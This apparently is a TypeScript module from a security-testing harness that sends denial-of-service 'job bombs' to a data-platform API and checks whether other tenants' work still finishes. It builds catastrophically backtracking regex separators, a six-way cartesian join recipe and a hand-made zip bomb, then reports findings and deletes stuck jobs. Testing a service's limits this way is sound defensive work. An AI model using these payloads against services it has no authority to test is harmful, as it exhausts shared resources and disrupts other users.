import { setTimeout as pause } from 'node:timers/promises';
import { crc32, deflateRawSync } from 'node:zlib';
import type { AttackRun } from '../attack-run.ts';
import type { Reply } from '../http/send.ts';
import { type Client, parsed } from '../world/client.ts';
import { housingCsv } from '../world/data-objects.ts';
import type { World } from '../world/world-types.ts';
import { whileOthersAsk } from './innocent.ts';

/** Our own server stops jobs after 20 s; another one may take its time, which is not ours to judge. */
const ENDS_WITHIN_MS = 75_000;
const OTHERS_WITHIN_MS = 75_000;
const JOINS = 6;
const ROWS = 300;

/** Work that would never end: a pattern that backtracks, joins that explode, an archive that unpacks to much more. */
export async function attackWithJobBombs(run: AttackRun, world: World): Promise<void> {
  const { owner } = world.people;
  const begun: { readonly name: string; readonly at: string }[] = [];
  const begin = async (name: string, start: () => Promise<Reply>) => {
    const reply = await start().catch((error: Error) => run.report.note(`${name}: ${error.message}`));
    if (reply === undefined) return;
    const at = reply.headers.location;
    if (reply.status === 202 && at !== undefined) begun.push({ name, at: new URL(at, run.url).pathname });
    else if (reply.status < 400 || reply.status >= 500)
      run.report.finding(`${name}: ${reply.status}`, 'see bombs/job-bombs.ts', reply.text.slice(0, 300));
  };
  await whileOthersAsk(run, world, 'jobs that would never end', async () => {
    await begin('A separator that backtracks', () => backtracking(owner, world));
    await begin('A recipe of six cross joins', () => crossJoins(owner, world));
    await begin('An archive that unpacks to 1000 times its size', () =>
      owner.upload('/api/v2/datasets/fromFile/', 'documents.zip', zipOf('notes.txt', Buffer.alloc(150_000_000, 'a'))),
    );
    const [others] = await Promise.all([innocentJob(world), ...begun.map((job) => mustEnd(run, owner, job))]);
    if (!others)
      run.report.finding('Work of another organization waits behind jobs that never end', 'see bombs/job-bombs.ts', '');
  });
}

/** Documents full of the letter, cut by a pattern that tries every way to group it. */
async function backtracking(owner: Client, { things }: World): Promise<Reply> {
  const text = `document,document_file_path\n${`${'a'.repeat(60)}b `.repeat(20)},a.txt\n`;
  const path = await owner.follow(await owner.upload('/api/v2/datasets/fromFile/', 'a.csv', text));
  const { datasetId } = await owner.make('GET', path);
  const chunkingParameters = { separators: ['(a+)+$', '(a|aa)+$'], isSeparatorRegex: true, chunkSize: 128 };
  return owner.send('POST', '/api/v2/genai/vectorDatabases/', {
    ...{ datasetId, useCaseId: things.get('useCaseId'), chunkingParameters },
  });
}

async function crossJoins(owner: Client, _world: World): Promise<Reply> {
  const path = await owner.follow(await owner.upload('/api/v2/datasets/fromFile/', 'rows.csv', housingCsv(ROWS)));
  const { datasetId } = await owner.make('GET', path);
  const { recipeId } = await owner.make('POST', '/api/v2/recipes/fromDataset/', { datasetId });
  const operations = Array.from({ length: JOINS }, (_, i) => ({
    directive: 'join',
    arguments: { joinType: 'cartesian', source: 'dataset', rightDatasetId: datasetId, rightPrefix: `r${i}_` },
  }));
  const sum = {
    directive: 'aggregate',
    arguments: { groupBy: ['town'], aggregations: [{ feature: 'size', functions: ['sum'] }] },
  };
  const put = (all: readonly object[]) =>
    owner.send('PUT', `/api/v2/recipes/${recipeId}/operations/`, { operations: all });
  const summed = await put([...operations, sum]);
  if (summed.status >= 400) await put(operations);
  return owner.send('POST', `/api/v2/recipes/${recipeId}/preview/`, {});
}

/** Whether a small job of somebody else is done in time. */
async function innocentJob({ people }: World): Promise<boolean> {
  const who = people.other ?? people.colleague;
  const started = await who.upload('/api/v2/datasets/fromFile/', 'small.csv', housingCsv(20));
  return (
    (await ended(who, new URL(started.headers.location ?? '', 'http://x').pathname, OTHERS_WITHIN_MS)) !== undefined
  );
}

async function mustEnd(
  run: AttackRun,
  owner: Client,
  { name, at }: { readonly name: string; readonly at: string },
): Promise<void> {
  const seen = await ended(owner, at, run.local === null ? ENDS_WITHIN_MS * 4 : ENDS_WITHIN_MS);
  if (seen !== undefined) return;
  run.report.finding(`${name} is still running after ${ENDS_WITHIN_MS / 1000} s`, `GET ${at}`, '');
  await owner.send('DELETE', at);
}

/** How a job ended; undefined when it has not within the time. */
async function ended(who: Client, at: string, withinMs: number): Promise<string | undefined> {
  const deadline = performance.now() + withinMs;
  while (performance.now() < deadline) {
    const reply = await who.send('GET', at);
    if (reply.status === 303 || reply.status === 404) return 'done';
    const { status = '' } = parsed(reply.text);
    if (/^(error|aborted|expired|failed|completed|cancel+ed)$/i.test(status)) return status;
    await pause(250);
  }
  return undefined;
}

/** An archive of one file, by hand: the packers at hand refuse nothing, but none is a part of Node. */
function zipOf(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const sizes = Buffer.alloc(12);
  sizes.writeUInt32LE(crc32(content), 0);
  sizes.writeUInt32LE(packed.length, 4);
  sizes.writeUInt32LE(content.length, 8);
  const file = Buffer.from(name);
  const lengths = Buffer.from([file.length, 0, 0, 0]);
  const start = Buffer.from([0x14, 0, 0, 0, 0x08, 0, 0, 0, 0x21, 0x58]);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), start, sizes, lengths, file, packed]);
  const central = Buffer.concat([
    ...[Buffer.from('PK\x01\x02\x14\x00', 'latin1'), start, sizes, lengths, Buffer.alloc(14), file],
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
